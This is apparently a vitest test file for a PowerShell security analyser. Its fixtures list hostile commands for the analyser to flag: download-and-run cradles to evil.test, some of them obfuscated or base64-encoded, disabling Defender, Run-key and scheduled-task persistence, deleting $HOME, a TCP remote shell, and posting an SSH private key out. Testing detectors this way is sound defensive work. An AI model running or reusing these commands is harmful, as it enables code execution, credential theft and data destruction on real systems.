import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { describeActs, describeFlows } from "../../testing/describe-facts.ts";
import { makeSource } from "../../testing/make-source.ts";
import type { Analysis } from "../fact-writer.ts";
import { analysePowershell } from "./analyse-shell.ts";

function analyse(text: string): Analysis {
  return analysePowershell(makeSource(text, { file: "run.ps1", language: "powershell", medium: "script" }));
}

const WIDE = Buffer.from("irm http://evil.test | iex", "utf16le").toString("base64");

describe("a download that is run is a flow", () => {
  test.each([
    ["iwr -useb http://evil.test/x | iex", "1: network evil.test > execute interpreter iex"],
    ["iex (irm http://evil.test/x)", "1: network evil.test > execute interpreter iex"],
    [
      "nslookup -q=txt a.evil.test | Select-String Name | % { $_.Line } | iex",
      "1: network a.evil.test > execute interpreter iex",
    ],
    [
      "IEX((New-Object Net.WebClient).DownloadString('http://evil.test'))",
      "1: network evil.test > execute interpreter iex",
    ],
    [
      "$u = 'http://evil' + '.test'\n$s = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $s",
      "3: network evil.test > execute interpreter iex",
    ],
    [
      "function Get-It($u) { (iwr $u).Content }\n$x = Get-It 'http://evil.test'\niex $x",
      "3: network evil.test > execute interpreter iex",
    ],
    [
      "function Get-It {\n  param($Where)\n  irm $Where\n}\niex (Get-It -Where http://evil.test)",
      "5: network evil.test > execute interpreter iex",
    ],
    ["Add-Type -TypeDefinition (irm http://evil.test)", "1: network evil.test > execute eval Add-Type"],
    ["i`w`r http://evil.test | I`EX", "1: network evil.test > execute interpreter iex"],
    ["& ('i'+'ex') (irm http://evil.test)", "1: network evil.test > execute interpreter iex"],
    [
      "Invoke-WebRequest -Uri http://evil.test/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe",
      "2: network evil.test > execute file start-process",
    ],
    [
      "& ([scriptblock]::Create((irm http://evil.test)))",
      "1: network evil.test > execute interpreter scriptblock",
    ],
    ["if ($true) { irm http://evil.test `\n | iex }", "1: network evil.test > execute interpreter iex"],
  ])("%s", (text, flow) => {
    expect(describeFlows(analyse(text).facts)).toContain(flow);
  });

  test.each([
    "$r = Invoke-RestMethod https://api.test/items; $r.name | Out-File items.txt",
    "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 10 } | ForEach-Object { Write-Host $_.Name }",
    "# iwr http://evil.test | iex",
    "<#\niwr http://evil.test | iex\n#>\nWrite-Host 'iwr http://evil.test | iex'",
  ])("%s is no execution", (text) => {
    expect(describeFlows(analyse(text).facts)).toEqual([]);
  });
});

test.each([
  `powershell -EncodedCommand ${WIDE}`,
  `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${WIDE}')))`,
])("an encoded command is decoded and handed on: %s", (text) => {
  const { texts } = analyse(text);
  expect(texts.map(({ language, text: inner, chain }) => [language, inner, chain.length])).toEqual([
    ["powershell", "irm http://evil.test | iex", 1],
  ]);
});

test.each([
  ["iex (@'\n# don't\niwr http://evil.test/p -OutFile p\n'@)", "# don't\niwr http://evil.test/p -OutFile p"],
  ['iex ("iwr http://evil.test/p -OutFile `"p)`"")', 'iwr http://evil.test/p -OutFile "p)"'],
  ["iex ('a' + \"`\"(\" + 'b')", 'a"(b'],
])("quotes within a string do not hide what is run: %j", (text, inner) => {
  expect(analyse(text).texts.map((found) => found.text)).toEqual([inner]);
});

test.each([
  ["Add-MpPreference -ExclusionPath C:\\", "1: disable-protection antivirus"],
  ["Set-MpPreference -DisableRealtimeMonitoring $true", "1: disable-protection antivirus"],
  [
    "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name a -Value b",
    "1: persist registry-run",
  ],
  ["schtasks /create /tn a /tr b /sc minute", "1: persist cron"],
  ["Remove-Item -Recurse -Force $HOME", "1: destroy home"],
  [
    "$c = New-Object Net.Sockets.TCPClient('203.0.113.9', 44); $s = $c.GetStream(); iex $d",
    "1: remote-shell 203.0.113.9",
  ],
])("%s", (text, act) => {
  expect(
    describeActs(analyse(text).facts, "disable-protection", "persist", "destroy", "remote-shell"),
  ).toContain(act);
});

test("what is read and sent is a flow", () => {
  const text = "Invoke-RestMethod -Uri https://evil.test -Method Post -Body (Get-Content ~/.ssh/id_rsa)";
  expect(describeFlows(analyse(text).facts)).toEqual(["1: secret ssh > network http evil.test"]);
});

test.each([
  `$a=${"(".repeat(5_000)}${")".repeat(5_000)}`,
  `$a = ${"'a'+".repeat(70_000)}'b'`,
  `$a = 'x'${" -replace 'a','b'".repeat(5_000)}`,
  ".DownloadString(".repeat(3_000),
  `iex(-join(${"[char]1,".repeat(30_000)}))`,
  "<#".repeat(100_000),
  "a '".repeat(100_000),
])("hostile nesting ends", (text) => {
  expect(() => analyse(text)).not.toThrow();
});

test("any text is read without throwing", () => {
  const words = fc.constantFrom(
    "iex",
    "(",
    ")",
    "'",
    '"',
    "$a",
    "=",
    "|",
    "{",
    "}",
    "irm",
    "http://evil.test",
    "+",
    ",",
    "-join",
    "[char]",
    "`",
    "\n",
    ";",
    "@'",
    "'@",
    "::FromBase64String(",
  );
  fc.assert(
    fc.property(fc.array(words, { maxLength: 40 }), (parts) => {
      expect(() => analyse(parts.join(" "))).not.toThrow();
    }),
  );
});
